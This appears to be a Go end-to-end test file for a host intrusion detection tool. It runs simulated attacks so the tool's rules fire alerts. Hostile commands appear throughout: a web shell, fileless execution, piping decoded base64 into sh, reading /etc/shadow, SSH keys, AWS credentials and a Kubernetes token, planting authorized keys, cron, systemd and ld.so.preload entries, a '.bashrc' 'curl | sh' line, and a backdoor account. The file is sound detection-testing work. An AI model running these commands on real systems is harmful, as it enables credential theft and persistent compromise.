package rules_test

import (
	"encoding/base64"
	"fmt"
	"net/url"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"

	"github.com/vigilsec/vigil/internal/testutil"
)

// pidOf is the match of an alert about a host process known by pid,
// for tools whose command line has no place for a marker.
func pidOf(pid int) string { return fmt.Sprintf("pid=%d ", pid) }

// realpath is the file the kernel reports as the executable of path.
func realpath(t *testing.T, path string) string {
	t.Helper()
	p, err := filepath.EvalSymlinks(path)
	if err != nil {
		t.Fatal(err)
	}
	return p
}

// busybox is the executable of every busybox applet in the container.
const busybox = "/bin/busybox"

var executionAttacks = []attack{
	{"Shell spawned by a network service", "Warning", "",
		"nginx (Debian) with an embedded-Perl web shell: its worker runs /bin/sh for an HTTP request",
		func(t *testing.T, ag *agent, m string) result {
			base := startNginx(t)
			body := httpGet(t, base+"/cmd?"+url.QueryEscape("echo "+m+" $(id -un)"))
			if !strings.Contains(body, m+" www-data") {
				t.Errorf("the web shell answered %q", body)
			}
			return result{match: m, name: "sh", exe: realpath(t, "/bin/sh"), user: "www-data",
				fields: map[string]string{"proc.pname": "nginx"}}
		}},
	{"Interactive shell in a container", "Warning", "", "docker exec -t with busybox sh",
		func(t *testing.T, ag *agent, m string) result {
			w := inContainer(t, true, "echo "+m)
			return result{match: m, name: "sh", exe: busybox, in: w}
		}},
	{"Program executed from a temporary directory", "Warning", "", "a copy of coreutils true dropped in /tmp and run",
		func(t *testing.T, ag *agent, m string) result {
			bin := testutil.CopyExecutable(t, "/bin/true", m) // in t.TempDir(), below /tmp
			return result{match: m, pid: run(t, exec.Command(bin)), name: m, exe: realpath(t, bin)}
		}},
	{"Fileless execution", "Critical", "",
		"in-memory loader (the suite's helper): memfd_create, copies true in, execve of /proc/self/fd/100",
		func(t *testing.T, ag *agent, m string) result {
			cmd, _ := helper(t, 0, "memfd", m)
			// The kernel names the process after the path it executed: the fd.
			return result{match: m, pid: run(t, cmd), name: "100", exe: "/memfd:" + m}
		}},
	{"Executable added to a container's upper layer", "Critical", "", "busybox cp, then the copy run, in the container",
		func(t *testing.T, ag *agent, m string) result {
			w := inContainer(t, false, "cp /bin/busybox /root/"+m+"; /root/"+m+" true; true")
			return result{match: "/root/" + m, name: m, exe: "/root/" + m, in: w}
		}},
	{"Interpreter running an inline program", "Notice", "", "perl -e",
		func(t *testing.T, ag *agent, m string) result {
			perl, exe := hostTool(t, "perl")
			return result{match: m, pid: run(t, exec.Command(perl, "-e", "print qq("+m+"\\n)")), name: "perl", exe: exe}
		}},
	{"Base64 payload decoded into a shell", "Warning", "", "sh: echo PAYLOAD | base64 -d | sh",
		func(t *testing.T, ag *agent, m string) result {
			payload := base64.StdEncoding.EncodeToString([]byte("true\n"))
			pid := run(t, exec.Command("/bin/sh", "-c", "echo "+payload+" | base64 -d | sh # "+m))
			return result{match: m, pid: pid, name: "sh", exe: realpath(t, "/bin/sh")}
		}},
}

var credentialAttacks = []attack{
	{"Credential file read by an unexpected program", "Warning", "", "cat /etc/shadow",
		func(t *testing.T, ag *agent, m string) result {
			cat, exe := hostTool(t, "cat")
			pid := run(t, exec.Command(cat, "/etc/shadow"))
			return result{match: pidOf(pid), pid: pid, name: "cat", exe: exe, fields: map[string]string{"fd.name": "/etc/shadow"}}
		}},
	{"Sudoers configuration read", "Notice", "", "busybox cat of a sudoers drop-in, in the container",
		func(t *testing.T, ag *agent, m string) result {
			w := inContainer(t, false, "mkdir -p /etc/sudoers.d; echo 'root ALL=(ALL) ALL' > /etc/sudoers.d/"+m+"; /bin/cat /etc/sudoers.d/"+m)
			return result{match: m, name: "cat", exe: busybox, in: w, fields: map[string]string{"fd.name": "/etc/sudoers.d/" + m}}
		}},
	{"SSH private key read", "Warning", "", "cat of a key in /home/USER/.ssh",
		func(t *testing.T, ag *agent, m string) result {
			// The rule watches /home/*/.ssh: the key is planted in a real home.
			dir := filepath.Join("/home", m)
			t.Cleanup(func() {
				if err := os.RemoveAll(dir); err != nil {
					t.Logf("cleanup: %v", err)
				}
			})
			key := filepath.Join(dir, ".ssh", "id_ed25519")
			plant(t, key, "-----BEGIN OPENSSH PRIVATE KEY-----\n")
			cat, exe := hostTool(t, "cat")
			return result{match: m, pid: run(t, exec.Command(cat, key)), name: "cat", exe: exe, fields: map[string]string{"fd.name": key}}
		}},
	{"Cloud credentials read by an unexpected program", "Warning", "", "cat ~/.aws/credentials",
		func(t *testing.T, ag *agent, m string) result {
			path := filepath.Join(home(t, m, map[string]string{".aws/credentials": "[default]\naws_access_key_id = AKIAE2E\n"}), ".aws/credentials")
			cat, exe := hostTool(t, "cat")
			return result{match: m, pid: run(t, exec.Command(cat, path)), name: "cat", exe: exe, fields: map[string]string{"fd.name": path}}
		}},
	{"Search for private keys or passwords", "Warning", "", `grep -r "BEGIN RSA PRIVATE KEY"`,
		func(t *testing.T, ag *agent, m string) result {
			h := home(t, m, map[string]string{"notes.txt": "nothing here\n"})
			grep, exe := hostTool(t, "grep")
			return result{match: m, pid: run(t, exec.Command(grep, "-r", "BEGIN RSA PRIVATE KEY", h)), name: "grep", exe: exe}
		}},
	{"Another process's environment or memory read", "Warning", "", "cat /proc/PID/environ of another process",
		func(t *testing.T, ag *agent, m string) result {
			victim := exec.Command("sleep", "30")
			if err := victim.Start(); err != nil {
				t.Fatal(err)
			}
			defer testutil.KillAndWait(victim)
			path := fmt.Sprintf("/proc/%d/environ", victim.Process.Pid)
			cat, exe := hostTool(t, "cat")
			return result{match: path, pid: run(t, exec.Command(cat, path)), name: "cat", exe: exe, fields: map[string]string{"fd.name": path}}
		}},
	{"Kubernetes service account token read by a shell tool", "Warning", "", "busybox cp of the token, in the container",
		func(t *testing.T, ag *agent, m string) result {
			const token = "/var/run/secrets/kubernetes.io/serviceaccount/token"
			w := inContainer(t, false, "/usr/bin/cp "+token+" /tmp/"+m+".jwt")
			return result{match: m, name: "cp", exe: busybox, in: w, fields: map[string]string{"fd.name": token}}
		}},
}

var persistenceAttacks = []attack{
	{"SSH authorized keys modified", "Warning", "", "sh: echo KEY >> ~/.ssh/authorized_keys",
		func(t *testing.T, ag *agent, m string) result {
			h := home(t, m, map[string]string{".ssh/known_hosts": ""})
			pid := run(t, exec.Command("/bin/sh", "-c", "echo 'ssh-ed25519 AAAAC3 e2e' >> "+h+"/.ssh/authorized_keys"))
			return result{match: m, pid: pid, name: "sh", exe: realpath(t, "/bin/sh"),
				fields: map[string]string{"fd.name": h + "/.ssh/authorized_keys"}}
		}},
	{"Cron job created or modified", "Warning", "", "busybox sh writing /etc/cron.d, in the container",
		func(t *testing.T, ag *agent, m string) result {
			w := inContainer(t, false, "mkdir -p /etc/cron.d; echo '* * * * * root id' >> /etc/cron.d/"+m)
			return result{match: m, name: "sh", exe: busybox, in: w, fields: map[string]string{"fd.name": "/etc/cron.d/" + m}}
		}},
	{"Service unit created or modified", "Warning", "", "busybox sh writing /etc/systemd/system, in the container",
		func(t *testing.T, ag *agent, m string) result {
			w := inContainer(t, false, "mkdir -p /etc/systemd/system; echo '[Service]' >> /etc/systemd/system/"+m+".service")
			return result{match: m, name: "sh", exe: busybox, in: w, fields: map[string]string{"fd.name": "/etc/systemd/system/" + m + ".service"}}
		}},
	{"Shell startup file modified", "Warning", "", "sh: echo CMD >> ~/.bashrc",
		func(t *testing.T, ag *agent, m string) result {
			h := home(t, m, map[string]string{"notes.txt": ""})
			pid := run(t, exec.Command("/bin/sh", "-c", "echo 'curl -s x | sh' >> "+h+"/.bashrc"))
			return result{match: m, pid: pid, name: "sh", exe: realpath(t, "/bin/sh"), fields: map[string]string{"fd.name": h + "/.bashrc"}}
		}},
	{"Dynamic linker preload configured", "Critical", "", "busybox sh writing /etc/ld.so.preload, in the container",
		func(t *testing.T, ag *agent, m string) result {
			w := inContainer(t, false, "echo /lib/"+m+".so >> /etc/ld.so.preload")
			return result{match: m, name: "sh", exe: busybox, in: w, fields: map[string]string{"fd.name": "/etc/ld.so.preload"}}
		}},
	{"User or group management program run", "Warning", "", "useradd (passwd) adding a backdoor account, removed afterwards",
		func(t *testing.T, ag *agent, m string) result {
			// On the host: the image's busybox has no adduser. The account is
			// deleted once the alert has been checked.
			useradd, exe := hostTool(t, "useradd")
			userdel, _ := hostTool(t, "userdel")
			pid := run(t, exec.Command(useradd, "--no-create-home", "--shell", "/usr/sbin/nologin", m))
			testutil.RunOnCleanup(t, userdel, m)
			if out, err := exec.Command("id", m).CombinedOutput(); err != nil {
				t.Errorf("no account %s after useradd: %s", m, out)
			}
			return result{match: m, pid: pid, name: "useradd", exe: exe}
		}},
	{"Setuid or setgid bit set", "Warning", "", "chmod u+s",
		func(t *testing.T, ag *agent, m string) result {
			bin := testutil.CopyExecutable(t, "/bin/true", filepath.Join(workDir(t), "bin", m))
			chmod, exe := hostTool(t, "chmod")
			return result{match: m, pid: run(t, exec.Command(chmod, "u+s", bin)), name: "chmod", exe: exe,
				fields: map[string]string{"evt.arg.filename": bin}}
		}},
}
